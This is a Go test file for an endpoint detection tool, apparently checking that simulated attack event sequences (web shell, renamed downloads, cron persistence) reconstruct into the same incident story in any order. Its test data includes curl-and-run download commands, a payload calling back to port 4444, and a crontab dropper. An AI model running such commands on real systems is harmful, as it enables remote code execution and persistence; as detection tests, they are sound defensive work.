package incident_test

import (
	"fmt"
	"slices"
	"strings"
	"testing"

	"github.com/yagura-edr/yagura/internal/detection"
	"github.com/yagura-edr/yagura/internal/event"
	"github.com/yagura-edr/yagura/internal/event/eventtest"
	"github.com/yagura-edr/yagura/internal/incident"
)

// Each lane arrives in its order, one lane may be any time behind another: the story must not depend on it.
func TestAnyOrderOfTheLanesTellsTheSameStory(t *testing.T) {
	for name, tape := range map[string]func() *tape{
		"web shell": webShell, "script": scriptWebShell, "moved": func() *tape { return renamed(event.FileRename) }, "linked": func() *tape { return renamed(event.FileLink) }, "same path": samePathAgain, "persistence": persistence, "edited table": editedTable,
		"spear phish, closed": func() *tape { return spearPhish(false) }, "spear phish, open": func() *tape { return spearPhish(true) },
		"two at once": twoAtOnce, "host to host": twoHosts, "injected": injected,
		"lateral": func() *tape { return lateral(true) }, "controller": controller, "piped": oddInPipedShell, "in make": oddInMake, "in a job": attackInCI, "piped download": pipedDownload,
	} {
		t.Run(name, func(t *testing.T) {
			tp := tape()
			want := told(tp.story())
			for seed := range uint64(300) {
				got := told(incident.FromEvents(eventtest.Interleave(tp.events, seed), tp.dets, incident.Context{}))
				if got != want {
					t.Fatalf("order %d tells another story:\n%s", seed, difference(want, got))
				}
			}
		})
	}
}

// told is a story as its reader sees it, without an order of its own.
func told(s incident.Story) string {
	lines := strings.Split(strings.TrimSpace(dump(s)), "\n")
	slices.Sort(lines)
	return strings.Join(lines, "\n")
}

func difference(want, got string) string {
	var b strings.Builder
	w, g := strings.Split(want, "\n"), strings.Split(got, "\n")
	for _, l := range w {
		if !slices.Contains(g, l) {
			fmt.Fprintf(&b, "- %s\n", l)
		}
	}
	for _, l := range g {
		if !slices.Contains(w, l) {
			fmt.Fprintf(&b, "+ %s\n", l)
		}
	}
	return b.String()
}

func (t *tape) remove(name, path, inode string) event.Stamped {
	return t.add(event.Event{
		Kind: event.FileDelete, Actor: *t.procs[name], Parent: t.up(name),
		File: event.File{Path: path, VolumeID: "0:25", FileID: inode, Links: 1},
	})
}

// rename gives a file another name, or a second one (event.FileLink).
func (t *tape) rename(kind event.Kind, name, from, to, inode string) event.Stamped {
	return t.add(event.Event{
		Kind: kind, Actor: *t.procs[name], Parent: t.up(name), OldFile: event.File{Path: from},
		File: event.File{Path: to, VolumeID: "0:25", FileID: inode, Mode: 0o100755, Links: 1},
	})
}

// scriptWebShell: what is downloaded is a script, which the exec names by its path alone, and it is removed.
func scriptWebShell() *tape {
	t := newTape(hostA)
	t.start("service", "init", 100, "/opt/app/httpd", "/opt/app/httpd -p 8080")
	t.net(event.NetListen, "service", "0.0.0.0:8080", "0.0.0.0:0")
	t.wait(4000)
	t.net(event.NetAccept, "service", "10.1.2.3:8080", "203.0.113.9:51000")
	t.detect(t.start("sh", "service", 101, "/usr/bin/dash", "sh -c curl -so /dev/shm/k http://203.0.113.9/k; sh /dev/shm/k"), "service started a shell", detection.High)
	t.start("curl", "sh", 102, "/usr/bin/curl", "curl -so /dev/shm/k http://203.0.113.9/k")
	t.connect("curl", "203.0.113.9:80")
	t.write("curl", "/dev/shm/k", "77")
	t.exit("curl")
	t.detect(t.start("payload", "sh", 104, "/usr/bin/dash", "/bin/sh /dev/shm/k"), "program run from memory", detection.High)
	t.connect("payload", "203.0.113.9:4444")
	t.remove("sh", "/dev/shm/k", "77")
	return t
}

// renamed: the file gets another name before it is run, and goes after it.
func renamed(kind event.Kind) *tape {
	t := newTape(hostA)
	t.running("shell", "init", 20, "/usr/bin/dash", "sh -s")
	t.start("curl", "shell", 40, "/usr/bin/curl", "curl -o /tmp/t http://203.0.113.9/t")
	t.connect("curl", "203.0.113.9:80")
	t.write("curl", "/tmp/t", "77")
	t.start("mv", "shell", 41, "/usr/bin/mv", "mv /tmp/t /tmp/u")
	t.rename(kind, "mv", "/tmp/t", "/tmp/u", "77")
	t.detect(t.startFile("tool", "shell", 42, "/tmp/u", "/tmp/u", "77"), "program run from a temporary folder", detection.High)
	t.detect(t.start("script", "shell", 43, "/usr/bin/dash", "/bin/sh /tmp/u"), "script run from a temporary folder", detection.High)
	t.start("rm", "shell", 44, "/usr/bin/rm", "rm /tmp/u")
	t.remove("rm", "/tmp/u", "77")
	return t
}

// Who moves a downloaded file, or gives it a second name, did not write it.
func TestMovedFileKeepsItsWriter(t *testing.T) {
	for _, kind := range []event.Kind{event.FileRename, event.FileLink} {
		tp := renamed(kind)
		s := tp.story()
		wantEdge(t, s, incident.EdgeDownloaded, 1)
		wantEdge(t, s, incident.EdgeWroteExec, 3) // curl to the file, the file to both runs
		wantMembers(t, tp, s, []string{"curl", "tool", "script"}, nil)
	}
}

// samePathAgain: two files, one after the other, have one path; the second got the number of the first.
func samePathAgain() *tape {
	t := newTape(hostA)
	t.running("shell", "init", 20, "/usr/bin/dash", "sh -s")
	for i, c := range []string{"curl", "wget"} {
		pid := uint64(40 + 10*i)
		t.start(c, "shell", pid, "/usr/bin/"+c, c+" http://203.0.113.9/t")
		t.connect(c, "203.0.113.9:80")
		t.write(c, "/tmp/t", "77")
		run := fmt.Sprint("run", i)
		t.detect(t.startFile(run, "shell", pid+1, "/tmp/t", "/tmp/t", "77"), "program run from a temporary folder", detection.High)
		t.detect(t.start(run+"s", "shell", pid+2, "/usr/bin/dash", "/bin/sh /tmp/t"), "script run from a temporary folder", detection.High)
		t.remove("shell", "/tmp/t", "77")
	}
	return t
}

// editedTable: crontab(1) writes a file beside the table and gives it the table's name.
func editedTable() *tape {
	t := newTape(hostA)
	t.running("cron", "init", 15, "/usr/sbin/cron", "/usr/sbin/cron -f")
	t.start("login", "init", 21, "/usr/bin/bash", "-bash")
	t.start("dropper", "login", 70, "/usr/bin/bash", "bash /tmp/x/dropper.sh")
	t.start("cp", "dropper", 72, "/usr/bin/cp", "cp a /tmp/x/stage")
	t.write("cp", "/tmp/x/stage", "901")
	t.start("crontab", "dropper", 73, "/usr/bin/crontab", "crontab -")
	t.write("crontab", "/var/spool/cron/crontabs/tmp.Ab12", "900")
	t.detect(t.rename(event.FileRename, "crontab", "/var/spool/cron/crontabs/tmp.Ab12", "/var/spool/cron/crontabs/web", "900"), "cron table written", detection.Medium)
	t.exit("dropper")
	t.wait(50)
	t.start("cronsh", "cron", 81, "/usr/bin/dash", "/bin/sh -c /tmp/x/stage")
	t.start("stage", "cronsh", 82, "/usr/bin/dash", "/bin/sh /tmp/x/stage")
	t.remove("stage", "/tmp/x/stage", "901")
	return t
}
